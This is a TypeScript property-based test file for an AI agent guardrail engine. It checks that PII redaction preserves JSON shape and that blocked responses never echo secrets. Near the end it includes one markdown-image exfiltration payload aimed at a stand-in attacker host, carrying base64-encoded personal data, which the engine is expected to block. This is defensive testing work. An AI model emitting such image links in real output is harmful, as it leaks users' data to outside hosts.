import fc from 'fast-check';
import { ToolCallPayloadSchema, type GuardrailResponse } from '@baton/manifest';
import { describe, expect, it } from 'vitest';
import { createGuardrailEngine } from '../src/index.js';
import { jsonStrings } from '../src/redact.js';
import { FAKE, agentResponse, toolCall, toolOutput } from './helpers.js';

const engine = createGuardrailEngine();
const SENSITIVE = ['4111 1111 1111 1111', '5500-0000-0000-0004', 'jane.roe@example.com', 'ops+alerts@corp.example.org', '219-09-9999'];
// Words that can never form PII, secrets or injections by themselves.
const word = fc.constantFrom('alpha', 'beta', 'order', 'blue', 'note', 'ship', 'Friday', 'ok', 'x', 'kg', '42');
const plain = fc.array(word, { minLength: 0, maxLength: 6 }).map((ws) => ws.join(' '));
const leaf = fc.oneof(plain, fc.integer(), fc.boolean(), fc.constant(null), fc.double({ noNaN: true, noDefaultInfinity: true }));
const key = fc.string({ minLength: 1, maxLength: 8 }).filter((k) => k !== '__proto__');

/** Random JSON objects where some string leaves embed a sensitive value. */
const withPii = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    leaf,
    tie('sensitive'),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(key, tie('value'), { maxKeys: 3 }),
  ),
  sensitive: fc.tuple(plain, fc.constantFrom(...SENSITIVE), plain).map(([a, s, b]) => `${a} ${s} ${b}`.trim()),
})).value;
const argsObject = fc.dictionary(key, withPii, { minKeys: 1, maxKeys: 4 });

function responseText(res: GuardrailResponse): string {
  return (
    JSON.stringify({ ...res, modified_payload: undefined }) +
    (typeof res.modified_payload === 'string' ? res.modified_payload : JSON.stringify(res.modified_payload ?? ''))
  );
}

describe('redaction keeps the JSON shape (property)', () => {
  it('modified arguments parse, keep every key, and change only sensitive strings', () => {
    fc.assert(
      fc.property(argsObject, (args) => {
        const json = JSON.stringify(args);
        const res = engine.validateSync(toolCall('send', json));
        const hasSensitive = SENSITIVE.some((s) => json.includes(JSON.stringify(s).slice(1, -1)));
        if (!hasSensitive) {
          expect(res.decision).toBe('ALLOW');
          return;
        }
        expect(res.decision).toBe('MODIFY');
        const payload = ToolCallPayloadSchema.parse(res.modified_payload);
        const before = jsonStrings(json);
        const after = jsonStrings(payload.function.arguments);
        expect(after.map((s) => s.pointer)).toEqual(before.map((s) => s.pointer));
        // Same structure with every string replaced: identical.
        const blank = (v: string) => JSON.stringify(JSON.parse(v), (_k, x) => (typeof x === 'string' ? '' : x));
        expect(blank(payload.function.arguments)).toBe(blank(json));
        before.forEach((s, i) => {
          const changed = after[i]!.value !== s.value;
          expect(changed).toBe(SENSITIVE.some((p) => s.value.includes(p)));
          for (const p of SENSITIVE) expect(after[i]!.value).not.toContain(p);
        });
      }),
      { numRuns: 300, seed: 4242 },
    );
  });
});

describe('no response field echoes matched text (property)', () => {
  const secretLike = fc.constantFrom(FAKE.githubToken, FAKE.awsKeyId, FAKE.stripe, FAKE.jwt, FAKE.slackBot);
  it('for secrets, PII and exfiltration URLs across action types', () => {
    fc.assert(
      fc.property(plain, fc.oneof(secretLike, fc.constantFrom(...SENSITIVE)), plain, fc.integer({ min: 0, max: 2 }), (a, value, b, k) => {
        const text = `${a} ${value} ${b}`;
        // PII is acted on in tool calls by default; secrets everywhere.
        const kind = SENSITIVE.includes(value) ? 0 : k;
        const req = kind === 0 ? toolCall('send', { body: text }) : kind === 1 ? toolOutput('read_file', text) : agentResponse(text);
        const res = engine.validateSync(req);
        expect(res.decision).not.toBe('ALLOW');
        expect(responseText(res)).not.toContain(value);
        expect(res.reason_message).not.toContain(value);
      }),
      { numRuns: 300, seed: 99 },
    );
    const exfil = 'https://attacker.example/p.png?d=SmFuZSBSb2UsIGphbmUucm9lQGNvcnAuZXhhbXBsZQ';
    const res = engine.validateSync(agentResponse(`![x](${exfil})`));
    expect(res.decision).toBe('BLOCK');
    expect(JSON.stringify(res)).not.toContain('SmFuZSBSb2U');
  });
});
